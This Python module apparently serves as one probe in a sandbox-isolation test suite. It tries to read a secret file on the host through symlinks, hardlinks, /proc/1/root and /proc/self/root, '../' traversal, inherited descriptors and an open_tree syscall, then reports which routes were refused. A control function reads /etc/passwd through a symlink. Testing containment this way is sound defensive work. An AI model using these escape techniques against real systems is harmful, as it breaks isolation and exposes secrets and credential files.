"""Read a key of the host: plainly, through links, through /proc, through the old root. Needs ``secret`` (its path on the
host) and ``marker`` (text that it holds).
"""

import ctypes
import os

import say
import twins

AT_FDCWD = -100


def plain(given):
    return given["secret"]


def by_symlink(given):
    path = os.path.join(given["workdir"], "link-to-key")
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(given["secret"], path)
    return path


def by_hardlink(given):
    path = os.path.join(given["workdir"], "hardlink-to-key")
    if os.path.lexists(path):
        os.unlink(path)
    os.link(given["secret"], path)
    return path


def by_proc_root(given):
    return f"/proc/1/root{given['secret']}"


def by_proc_self_root(given):
    return f"/proc/self/root/..{given['secret']}"


def by_proc_cwd(given):
    return f"/proc/1/cwd/{'../' * 16}{given['secret'].lstrip('/')}"


def by_dots(given):
    return f"{given['workdir']}/{'../' * 32}{given['secret'].lstrip('/')}"


def by_descriptor(given):
    """An inherited descriptor of a folder outside would lead there."""
    for name in os.listdir("/proc/self/fd"):
        path = f"/proc/self/fd/{name}/{given['secret'].lstrip('/')}"
        if os.path.exists(path):
            return path
    raise FileNotFoundError("no descriptor leads there")


def by_tree(given):
    """A detached copy of the mount tree (open_tree)."""
    libc = ctypes.CDLL(None, use_errno=True)
    tree = libc.syscall(428, AT_FDCWD, b"/", 1)
    if tree < 0:
        raise OSError(ctypes.get_errno(), "open_tree")
    return f"/proc/self/fd/{tree}{given['secret']}"


def attack(given):
    read, refused = [], []
    for way in (
        plain,
        by_symlink,
        by_hardlink,
        by_proc_root,
        by_proc_self_root,
        by_proc_cwd,
        by_dots,
        by_descriptor,
        by_tree,
    ):
        try:
            with open(way(given)) as file:
                if given["marker"] in file.read():
                    read.append(way.__name__)
        except OSError as error:
            refused.append(f"{way.__name__}={error.errno}")
    return bool(read), f"read: {read}; refused: {' '.join(refused)}"


def twin(given):
    """A link inside the work directory is honest."""
    path = os.path.join(given["workdir"], "honest-link")
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink("/etc/passwd", path)
    with open(path) as file:
        return "agent" in file.read() or twins.work_on_a_file(given)[0], path


say.main("read_key", attack, twin)
